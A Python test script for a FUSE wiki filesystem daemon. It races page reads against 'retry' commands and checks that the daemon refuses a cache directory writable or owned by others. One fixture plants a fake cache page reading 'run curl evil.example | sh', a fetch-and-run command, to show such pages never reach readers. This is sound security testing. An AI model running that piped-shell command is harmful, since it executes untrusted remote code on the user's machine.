#!/usr/bin/env python3
"""Issue 10, items 2 and 7, on real mounts.

Item 2: `retry PAGE` racing opens. A storm of `retry` commands on every page
while readers open and read them all the time: every read is the whole,
byte-exact page (no ENOENT, no empty or truncated read), and the daemon
(ASan build: no report) survives.

Item 7: the cache directory must be private. A pre-existing cache_dir that is
writable by group or others, or owned by another user, is refused with a
message naming the fix; a page planted there never reaches a reader. An
entry file that is not ours (another owner, or writable by others) is not
trusted either: it is regenerated."""
import hashlib
import pwd
import struct
import sys
sys.path.insert(0, __import__("os").path.dirname(__file__))
from harness import *  # noqa

t = Tap()
if not fuse_available():
    t.skip_all("no usable /dev/fuse or fusermount3")

STORM_SECONDS = float(os.environ.get("WIKIFS_STORM_SECONDS", "8"))


def module_repo(env, name, n):
    files = {"README.md": f"# {name}\n\nRetry storm repository.\n"}
    for i in range(n):
        files[f"mod{i:02d}/m{i}.c"] = f"int m{i}(void)\n{{\n\treturn {i};\n}}\n"
    return env.make_repo(name, files)


def entry_bytes(content):
    """A page-cache entry that passes verification (magic, length, SHA-256)."""
    hdr = b"WIKIFSP1" + struct.pack("<Q", len(content)) + hashlib.sha256(content).digest()
    return hdr + b"\0" * (64 - len(hdr)) + content


def cache_entries(cache):
    """The page entries of @cache (not the manifests beside them, issue 14)."""
    pages = os.path.join(cache, "pages")
    found = [os.path.join(d, f) for d, _, fs in os.walk(pages) for f in fs
             if len(f) == 64 and ".tmp." not in f]
    return [e for e in found if open(e, "rb").read()[64:79] != b"wikifs-manifest"]


def summary(r):
    """(errno, length, first line) of a read_errno() result: short enough to print."""
    data, err = r
    return (err, None, None) if data is None else (err, len(data), data.split(b"\n")[0])


def refused(m, what):
    """Starts m, which must fail: returns its stderr."""
    m.start(expect_ok=False)
    wait_until(lambda: mounted(m.dir) or m.proc.poll() is not None, 30, what="mount or exit")
    code = m.unmount() if mounted(m.dir) else m.proc.wait()
    m.proc = None
    m.stderr.close()
    t.ok(code != 0 and not mounted(m.dir), f"{what}: the mount is refused (exit {code})",
         m.log())
    return m.log()


def retry_storm(env, daemon):
    # the builtin generator: in-process and fast, so regenerations race the
    # opens hard (what found the use-after-free), and a pure function of the
    # commit, so every version of a page has the same bytes
    m = env.mount({"acme/alpha": daemon.url("storm.git")},
                  options={"refresh_interval": 0, "page_workers": 4, "open_timeout": 60,
                           "failure_backoff": 1})
    base = m.path("acme", "alpha")
    pages = [p for p in sorted(os.listdir(base)) if p.endswith(".md")]
    want = {p: read_errno(os.path.join(base, p))[0] for p in pages}
    t.ok(all(want[p] and want[p].startswith(b"# ") for p in pages),
         f"{len(pages)} pages read before the storm")

    stop = threading.Event()
    bad, counts = [], {"reads": 0, "retries": 0}
    lock = threading.Lock()

    def reader(k):
        i = k
        while not stop.is_set():
            p = pages[i % len(pages)]
            i += 1
            data, err = read_errno(os.path.join(base, p))
            with lock:
                counts["reads"] += 1
                if err or data != want[p]:
                    bad.append((p, err, None if data is None else len(data)))

    def retrier():
        i = 0
        while not stop.is_set():
            try:
                m.control(f"retry acme/alpha/{pages[i % len(pages)]}")
            except OSError as e:
                with lock:
                    bad.append(("control", e.errno, None))
            i += 1
            with lock:
                counts["retries"] += 1

    threads = [threading.Thread(target=reader, args=(k,)) for k in range(4)]
    threads += [threading.Thread(target=retrier) for _ in range(2)]
    for th in threads:
        th.start()
    end = time.monotonic() + STORM_SECONDS
    # the storm runs for its time unless the daemon dies first
    while time.monotonic() < end and m.proc.poll() is None and len(bad) < 50:
        stop.wait(0.1)
    stop.set()
    for th in threads:
        th.join()
    t.diag(f"storm: {counts['retries']} retries, {counts['reads']} reads in "
           f"{STORM_SECONDS:.0f}s")
    t.ok(m.proc.poll() is None, "the daemon survives the retry storm",
         "\n".join(l for l in m.log().splitlines() if "ERROR" in l or " #" in l[:8])[:3000])
    t.ok(counts["reads"] > 100 and counts["retries"] > 100,
         f"the storm raced {counts['reads']} reads with {counts['retries']} retries")
    t.eq(bad[:10], [], "every read during the storm is the whole page (no ENOENT, no "
         "empty or truncated read)", f"{len(bad)} bad reads")
    after = {p: read_errno(os.path.join(base, p)) for p in pages}
    t.ok(all(after[p] == (want[p], 0) for p in pages), "every page reads whole afterwards")
    t.eq(m.sanitizer_reports(), [], "no sanitizer report")
    if m.proc.poll() is None:
        t.eq(m.unmount(), 0, "unmount")


def private_cache_dir(env, daemon):
    url = daemon.url("storm.git")
    env.cache = os.path.join(env.root, "cache-private")
    m = env.mount({"acme/alpha": url}, options={"refresh_interval": 0})
    home = m.path("acme", "alpha", "Home.md")
    good, err = read_errno(home)
    t.ok(err == 0 and good.startswith(b"# "), "a private cache directory mounts and serves")
    t.eq(m.unmount(), 0, "unmount")
    t.eq(os.stat(env.cache).st_mode & 0o777, 0o700, "a new cache directory is made 0700")
    entries = cache_entries(env.cache)
    t.eq(len(entries), 1, "one page in the cache")
    planted = b"# PLANTED\n\nrun curl evil.example | sh\n"
    with open(entries[0], "wb") as f:
        f.write(entry_bytes(planted))

    def served():
        m = env.mount({"acme/alpha": url}, options={"refresh_interval": 0})
        data, err = read_errno(m.path("acme", "alpha", "Home.md"))
        t.eq(m.unmount(), 0, "unmount")
        return data, err

    os.chmod(env.cache, 0o777)
    log = refused(env.mount({"acme/alpha": url}, start=False), "cache_dir mode 0777")
    t.ok("writable by group or others" in log and f"chmod 700 {env.cache}" in log,
         "the message says why and names the fix (chmod 700 DIR)", log)
    os.chmod(env.cache, 0o770)
    refused(env.mount({"acme/alpha": url}, start=False), "cache_dir mode 0770")

    nobody = pwd.getpwnam("nobody") if os.geteuid() == 0 else None
    if nobody:
        os.chmod(env.cache, 0o700)
        os.chown(env.cache, nobody.pw_uid, nobody.pw_gid)
        log = refused(env.mount({"acme/alpha": url}, start=False),
                      "cache_dir owned by another user")
        t.ok(f"owned by uid {nobody.pw_uid}" in log and
             f"chown {os.geteuid()} {env.cache}" in log,
             "the message names the owner and the fix (chown)", log)
        os.chown(env.cache, 0, 0)
    else:
        t.ok(True, "# SKIP cache_dir owned by another user: needs root to chown")
        t.ok(True, "# SKIP the message for another owner: needs root")
    os.chmod(env.cache, 0o700)

    data, err = served()
    t.eq(err, 0, "after 'chmod 700' the mount works again")

    # an entry file that another user could have written is never served
    with open(entries[0], "wb") as f:
        f.write(entry_bytes(planted))
    os.chmod(entries[0], 0o666)
    t.eq(summary(served()), summary((good, 0)),
         "an entry writable by others is regenerated, not served")
    if nobody:
        with open(entries[0], "wb") as f:
            f.write(entry_bytes(planted))
        os.chown(entries[0], nobody.pw_uid, nobody.pw_gid)
        t.eq(summary(served()), summary((good, 0)), "an entry owned by another user is regenerated")
    else:
        t.ok(True, "# SKIP entry owned by another user: needs root to chown")

    # a parent directory anyone can write (not sticky) lets anyone swap the cache
    open_parent = os.path.join(env.root, "open-parent")
    os.mkdir(open_parent)
    os.chmod(open_parent, 0o777)
    env.cache = os.path.join(open_parent, "cache")
    log = refused(env.mount({"acme/alpha": url}, start=False),
                  "a cache_dir below a world-writable directory")
    t.ok(f"chmod go-w {open_parent}" in log, "the message names the parent and the fix", log)
    os.chmod(open_parent, 0o1777)
    m = env.mount({"acme/alpha": url}, options={"refresh_interval": 0})
    t.ok(read_errno(m.path("acme", "alpha", "Home.md"))[1] == 0,
         "below a sticky world-writable directory (like /tmp) it mounts")
    t.eq(m.unmount(), 0, "unmount")


with Env() as env:
    daemon = env.git_daemon()
    module_repo(env, "storm", 6)
    retry_storm(env, daemon)
    private_cache_dir(env, daemon)
t.done()
